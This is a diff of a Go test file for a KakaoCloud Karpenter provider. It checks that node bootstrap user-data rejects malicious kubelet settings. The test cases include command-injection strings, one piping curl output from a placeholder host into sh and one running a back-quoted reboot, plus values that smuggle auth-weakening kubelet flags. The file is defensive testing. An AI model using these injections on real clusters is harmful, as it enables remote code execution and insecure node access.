@@ -24,14 +24,21 @@ import (
 
 	kcv1 "github.com/kakaocloud/karpenter-provider-kakaocloud/api/kakaocloud/v1"
 	"github.com/kakaocloud/karpenter-provider-kakaocloud/internal/bootstrap"
+	"github.com/kakaocloud/karpenter-provider-kakaocloud/internal/instancetype"
 )
 
 // options is a join script's input with the given kubelet settings, labels and taints.
 func options(kubelet *kcv1.KubeletConfiguration, labels map[string]string, taints ...corev1.Taint) bootstrap.Options {
 	return bootstrap.Options{
 		Endpoint: "https://10.0.0.1:6443", CABundle: []byte(ca), Token: "abcdef.0123456789abcdef",
-		Labels: labels, Taints: taints, Kubelet: kubelet,
+		Labels: labels, Taints: taints, Kubelet: kubelet, Reservations: instancetype.KubeletReservations{MaxPods: 110},
 	}
+}
+
+// withEvictionHard is o with the hard eviction thresholds of its reservations set.
+func withEvictionHard(o bootstrap.Options, thresholds map[string]string) bootstrap.Options {
+	o.Reservations.EvictionHard = thresholds
+	return o
 }
 
 // TestUserDataRefusesValuesThatAreNotTheirForm renders the values a KCNodeClass or a NodeClaim
@@ -47,12 +54,10 @@ func TestUserDataRefusesValuesThatAreNotTheirForm(t *testing.T) {
 			options(&kcv1.KubeletConfiguration{ClusterDNS: []string{"$(curl -s http://x/y|sh)"}}, nil), "kubelet.clusterDNS"},
 		{"a flag after a cluster DNS address",
 			options(&kcv1.KubeletConfiguration{ClusterDNS: []string{"10.96.0.10 --anonymous-auth=true"}}, nil), "kubelet.clusterDNS"},
-		{"a quote and a flag in systemReserved",
-			options(&kcv1.KubeletConfiguration{SystemReserved: map[string]string{"memory": `1Gi" --authorization-mode=AlwaysAllow "`}}, nil), "kubelet.systemReserved"},
-		{"a word as kubeReserved",
-			options(&kcv1.KubeletConfiguration{KubeReserved: map[string]string{"cpu": "lots"}}, nil), "kubelet.kubeReserved"},
 		{"a back-quoted command after an eviction percentage",
-			options(&kcv1.KubeletConfiguration{EvictionHard: map[string]string{"memory.available": "5%`reboot`"}}, nil), "kubelet.evictionHard"},
+			withEvictionHard(options(nil, nil), map[string]string{"memory.available": "5%`reboot`"}), "kubelet.evictionHard"},
+		{"a flag as an eviction signal",
+			withEvictionHard(options(nil, nil), map[string]string{"memory.available<1Gi --anonymous-auth": "5%"}), "kubelet.evictionHard"},
 		{"a negative evictionSoft quantity",
 			options(&kcv1.KubeletConfiguration{EvictionSoft: map[string]string{"memory.available": "-1Gi"}}, nil), "kubelet.evictionSoft"},
 		{"a label value with a space",
@@ -102,13 +107,11 @@ func FuzzUserDataRunsOnlyItsOwnCommands(f *testing.F) {
 }
 
 func fuzzOptions(dns, reserved, eviction, labelKey, labelValue, taintKey, taintValue string) bootstrap.Options {
-	return options(&kcv1.KubeletConfiguration{
-		ClusterDNS:     []string{dns},
-		KubeReserved:   map[string]string{"cpu": reserved},
-		SystemReserved: map[string]string{"memory": reserved},
-		EvictionHard:   map[string]string{"memory.available": eviction},
-		EvictionSoft:   map[string]string{"nodefs.available": eviction},
-	}, map[string]string{labelKey: labelValue}, corev1.Taint{Key: taintKey, Value: taintValue, Effect: corev1.TaintEffectNoSchedule})
+	return withEvictionHard(options(&kcv1.KubeletConfiguration{
+		ClusterDNS:   []string{dns},
+		EvictionSoft: map[string]string{"nodefs.available": eviction, "memory.available": reserved},
+	}, map[string]string{labelKey: labelValue}, corev1.Taint{Key: taintKey, Value: taintValue, Effect: corev1.TaintEffectNoSchedule}),
+		map[string]string{"memory.available": eviction, "nodefs.available": reserved})
 }
 
 func mustRender(tb testing.TB, o bootstrap.Options) string {
